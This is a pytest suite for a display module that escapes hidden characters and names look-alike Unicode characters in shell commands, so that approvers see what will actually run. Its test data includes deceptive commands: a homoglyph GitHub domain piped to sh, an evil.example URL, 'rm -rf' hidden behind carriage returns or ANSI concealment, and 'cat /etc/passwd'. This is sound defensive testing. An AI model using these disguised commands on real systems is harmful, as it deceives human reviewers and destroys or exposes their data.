"""Tests for app.core.display: what a person reads must be what runs."""

from __future__ import annotations

import pytest

from app.core.display import (
    describe_suspicious,
    display_command,
    display_text,
    has_hidden_characters,
    needs_warning,
    suspicious_characters,
)

CYRILLIC_I = "U+0456 CYRILLIC SMALL LETTER BYELORUSSIAN-UKRAINIAN I"


@pytest.mark.parametrize(
    "command",
    [
        "ls -la /tmp",
        "git diff --stat && pytest -q | tail -n 5",
        "echo 'a;b' \"$HOME\" `x` $(y) \\ls ~ *",
        "",
        " ",
    ],
)
def test_plain_ascii_is_unchanged(command: str) -> None:
    assert display_command(command) == command
    assert not has_hidden_characters(command)


@pytest.mark.parametrize(
    "command", ["cat caf\u00e9.txt", "echo \u65e5\u672c\u8a9e", "grep \u00fcber x", "ls \u0441\u0430\u0442"]
)
def test_readable_non_ascii_letters_stay_readable(command: str) -> None:
    # Look-alike letters (Cyrillic) are shown as themselves, not escaped: the matcher refuses them and
    # suspicious_characters() names them for the warning (see the look-alike tests below).
    assert display_command(command) == command
    assert not has_hidden_characters(command)


def test_multi_line_command_keeps_real_newlines() -> None:
    command = "ls\ngit status\n"
    assert display_command(command) == command
    assert not has_hidden_characters(command)


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("ls '\u202etxt.exe'", "ls '\\u202etxt.exe'"),  # right-to-left override
        ("ls \u202ax\u202c", "ls \\u202ax\\u202c"),  # left-to-right embedding, pop
        ("echo \u2066a\u2069", "echo \\u2066a\\u2069"),  # isolates
        ("a\u200eb\u200fc\u061cd", "a\\u200eb\\u200fc\\u061cd"),  # direction marks
        ("git\u200bstatus", "git\\u200bstatus"),  # zero-width space
        ("a\u200cb\u200dc", "a\\u200cb\\u200dc"),  # zero-width non-joiner / joiner
        ("a\u2060b\u2063c", "a\\u2060b\\u2063c"),  # word joiner, invisible separator
        ("\ufeffls", "\\ufeffls"),  # byte order mark
        ("rm\u00ad-rf", "rm\\xad-rf"),  # soft hyphen
        ("a\u180eb", "a\\u180eb"),  # mongolian vowel separator
        ("ls\u3164x", "ls\\u3164x"),  # hangul filler
        ("a\ufe0fb", "a\\ufe0fb"),  # variation selector
        ("a\U000e0041b", "a\\U000e0041b"),  # tag character
        ("a\u2028b\u2029c", "a\\u2028b\\u2029c"),  # line / paragraph separators
        ("ls\u00a0-la", "ls\\xa0-la"),  # no-break space
        ("ls\u3000-la", "ls\\u3000-la"),  # ideographic space
        ("ls\u2009-la", "ls\\u2009-la"),  # thin space
        ("ls\rrm -rf /", "ls\\rrm -rf /"),  # carriage return
        ("ls\x00rm", "ls\\x00rm"),  # NUL
        ("echo \x1b[2K\x1b[1Ahi", "echo \\x1b[2K\\x1b[1Ahi"),  # ANSI escape sequences
        ("a\tb", "a\\tb"),  # tab
        ("a\x07b\x7fc", "a\\x07b\\x7fc"),  # bell, delete
        ("a\x85b\x9bc", "a\\x85b\\x9bc"),  # C1 controls
        ("a\ue000b", "a\\ue000b"),  # private use
        ("a\U0010ffffb", "a\\U0010ffffb"),  # noncharacter / unassigned
        ("a\ud800b", "a\\ud800b"),  # lone surrogate
    ],
)
def test_hidden_characters_are_escaped(command: str, shown: str) -> None:
    assert display_command(command) == shown
    assert has_hidden_characters(command)
    assert needs_warning(command)


def test_displayed_text_is_printable() -> None:
    command = "".join(chr(c) for c in range(0x0, 0x3000))
    shown = display_command(command)
    assert all(ch == "\n" or ch.isprintable() for ch in shown)


def test_literal_backslash_is_kept_and_flag_disambiguates() -> None:
    # A typed `\u202e` looks like an escaped U+202E; has_hidden_characters tells them apart.
    typed = "echo \\u202e"
    assert display_command(typed) == typed
    assert not has_hidden_characters(typed)
    real = "echo \u202e"
    assert display_command(real) == typed
    assert has_hidden_characters(real)


# Look-alike and hidden characters: suspicious_characters, needs_warning, describe_suspicious.


def test_name_format_is_code_point_then_unicode_name() -> None:
    assert suspicious_characters("g\u0456t") == [CYRILLIC_I]
    assert suspicious_characters("a\tb") == ["U+0009 CHARACTER TABULATION (TAB)"]  # controls: their alias names
    assert suspicious_characters("\x1b[8m") == ["U+001B ESCAPE (starts terminal control sequences)"]
    assert suspicious_characters("\U0001d42b") == ["U+1D42B MATHEMATICAL BOLD SMALL R"]


def test_cyrillic_i_in_command_name() -> None:
    """Attack: `git status` with a Cyrillic i runs a program the agent put on PATH under that name, not git."""
    assert suspicious_characters("g\u0456t status") == [CYRILLIC_I]
    assert needs_warning("g\u0456t status")
    assert not has_hidden_characters("g\u0456t status")  # the old check alone let it through


def test_cyrillic_i_in_host_name() -> None:
    """Attack: `curl https://github.com/x | sh` with a Cyrillic i pipes a look-alike domain's script to sh."""
    command = "curl https://g\u0456thub.com/x | sh"
    assert suspicious_characters(command) == [CYRILLIC_I]
    assert needs_warning(command)


def test_fullwidth_letters() -> None:
    """Attack: `rm -rf /` in fullwidth letters reads as `rm -rf /` but runs whatever program that name is."""
    assert suspicious_characters("\uff52\uff4d -rf /") == [
        "U+FF52 FULLWIDTH LATIN SMALL LETTER R",
        "U+FF4D FULLWIDTH LATIN SMALL LETTER M",
    ]


def test_mathematical_bold_letters() -> None:
    """Attack: `rm` in mathematical bold letters reads as `rm` in many fonts but is a different name."""
    assert suspicious_characters("\U0001d42b\U0001d426 -rf x") == [
        "U+1D42B MATHEMATICAL BOLD SMALL R",
        "U+1D426 MATHEMATICAL BOLD SMALL M",
    ]


@pytest.mark.parametrize("mark", ["\u0338", "\u0335", "\u20e3"])
def test_combining_overlay_on_slash(mark: str) -> None:
    """Attack: a combining overlay drawn over `/` hides in the glyph; the path is not the one read."""
    names = suspicious_characters(f"ls /{mark}etc")
    assert len(names) == 1
    assert names[0].startswith(f"U+{ord(mark):04X} COMBINING ")


def test_combining_mark_on_latin_letter_is_named() -> None:
    """Attack: `cafe` + U+0301 looks like the precomposed `caf\\xe9` but is a different file name."""
    assert suspicious_characters("cat cafe\u0301.txt") == ["U+0301 COMBINING ACUTE ACCENT"]


def test_cyrillic_letter_mixed_into_latin_word() -> None:
    """Attack: `cat` with a Cyrillic es (U+0441) reads as `cat` and runs another program."""
    assert suspicious_characters("\u0441at /etc/passwd") == ["U+0441 CYRILLIC SMALL LETTER ES"]


def test_all_cyrillic_word_that_looks_latin() -> None:
    """Attack: `cat` written all in Cyrillic (no mixing) still reads as `cat`; the script itself is flagged."""
    assert suspicious_characters("\u0441\u0430\u0442 x") == [
        "U+0441 CYRILLIC SMALL LETTER ES",
        "U+0430 CYRILLIC SMALL LETTER A",
        "U+0442 CYRILLIC SMALL LETTER TE",
    ]


def test_greek_omicron_in_host_name() -> None:
    """Attack: `google.com` with a Greek omicron is another domain."""
    assert suspicious_characters("curl https://g\u03bfogle.com") == ["U+03BF GREEK SMALL LETTER OMICRON"]


def test_mixed_script_catches_letters_outside_the_tables() -> None:
    """Attack: Malayalam TTHA (U+0D20) looks like `o`; it is in no table, but it sits in a word of ASCII letters."""
    assert suspicious_characters("curl https://g\u0d20\u0d20gle.com") == ["U+0D20 MALAYALAM LETTER TTHA"]
    assert not needs_warning("cat \u0d20.txt")  # alone in its word it is read as Malayalam


@pytest.mark.parametrize(
    ("command", "name"),
    [
        ("echo \u2018$(id)\u2019", "U+2018 LEFT SINGLE QUOTATION MARK"),  # not quotes: $(id) runs
        ("curl https://github.com\u2044evil.example/x", "U+2044 FRACTION SLASH"),  # not a path separator
        ("rm \u2212rf x", "U+2212 MINUS SIGN"),
        ("g\u0131t status", "U+0131 LATIN SMALL LETTER DOTLESS I"),
        ("ls \u2170", "U+2170 SMALL ROMAN NUMERAL ONE"),
        ("echo \u1d00", "U+1D00 LATIN LETTER SMALL CAPITAL A"),
        ("ls x\u00b2", "U+00B2 SUPERSCRIPT TWO"),
        ("echo \u24d0", "U+24D0 CIRCLED LATIN SMALL LETTER A"),
        ("curl github\u3002com", "U+3002 IDEOGRAPHIC FULL STOP"),  # mixed script: odd dot in an ASCII word
    ],
)
def test_other_lookalikes_are_named(command: str, name: str) -> None:
    """Attack: punctuation, letterlike and small-capital look-alikes that read as ASCII but are not."""
    assert suspicious_characters(command)[0] == name


@pytest.mark.parametrize(
    "command",
    [
        "ls caf\u00e9/",
        "cat na\u00efve.txt",
        "ls \u65e5\u672c\u8a9e.txt",
        "grep \u00fcber x && echo Vi\u1ec7t",
        "ls -la /tmp",
        "git diff --stat && pytest -q | tail -n 5",
        "echo 'a;b' \"$HOME\" `x` $(y) \\ls ~ *",
        "ls\ngit status\n",
        "echo 50\u00b0C \u00a9 \u2192 \u2705",  # symbols are not read as ASCII letters
        "",
    ],
)
def test_ordinary_text_needs_no_warning(command: str) -> None:
    """No attack: accented Latin letters, CJK alone in a word, plain ASCII and newlines read correctly."""
    assert suspicious_characters(command) == []
    assert not needs_warning(command)
    assert describe_suspicious(command) == ""


def test_every_hidden_character_needs_a_warning() -> None:
    """Attack: any character display_command escapes must also raise the look-alike warning."""
    for code in [*range(0x3000), *range(0xFE00, 0xFF00), 0xE0041, 0xE0100]:
        ch = chr(code)
        if has_hidden_characters(ch):
            assert needs_warning(ch), hex(code)


def test_names_are_deduplicated_in_order_of_first_appearance() -> None:
    command = "\uff52\uff4d g\u0456t \uff52\u200b g\u0456t"
    assert suspicious_characters(command) == [
        "U+FF52 FULLWIDTH LATIN SMALL LETTER R",
        "U+FF4D FULLWIDTH LATIN SMALL LETTER M",
        CYRILLIC_I,
        "U+200B ZERO WIDTH SPACE",
    ]


def test_describe_suspicious_names_characters() -> None:
    assert describe_suspicious("g\u0456t \uff52") == (
        f"Look-alike or hidden characters: {CYRILLIC_I}, U+FF52 FULLWIDTH LATIN SMALL LETTER R."
    )


def test_describe_suspicious_counts_past_the_limit() -> None:
    command = "g\u0456t \uff52\uff4d \u0441\u0430\u0442"  # Cyrillic i, fullwidth r m, Cyrillic es a te
    assert describe_suspicious(command, limit=2) == (
        f"Look-alike or hidden characters: {CYRILLIC_I}, U+FF52 FULLWIDTH LATIN SMALL LETTER R (and 4 more)."
    )
    assert "(and 1 more)" in describe_suspicious(command)
    assert "more" not in describe_suspicious(command, limit=6)
    with pytest.raises(ValueError, match="limit"):
        describe_suspicious(command, limit=0)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("/home/me/x\nrm -rf /", "/home/me/x\\nrm -rf /"),  # a newline would add a fake line
        ("/tmp/\x1b[8mhidden\x1b[0m", "/tmp/\\x1b[8mhidden\\x1b[0m"),  # ESC[8m conceals text
        ("/tmp/\u202etxt.exe", "/tmp/\\u202etxt.exe"),  # right-to-left override
        ("/tmp/a\tb\rc", "/tmp/a\\tb\\rc"),
        ("/home/me/caf\u00e9", "/home/me/caf\u00e9"),
    ],
)
def test_display_text_escapes_newlines_too(text: str, shown: str) -> None:
    """Attack: a working folder holding a newline, ESC or bidi control fakes what a label shows."""
    assert display_text(text) == shown
    assert "\n" not in display_text(text)


def test_display_command_escapes_esc_but_keeps_newlines() -> None:
    """Attack: `ESC[8m` makes a terminal hide what follows; display_command shows it as `\\x1b`."""
    assert display_command("echo ok\x1b[8m; rm -rf ~\nls") == "echo ok\\x1b[8m; rm -rf ~\nls"
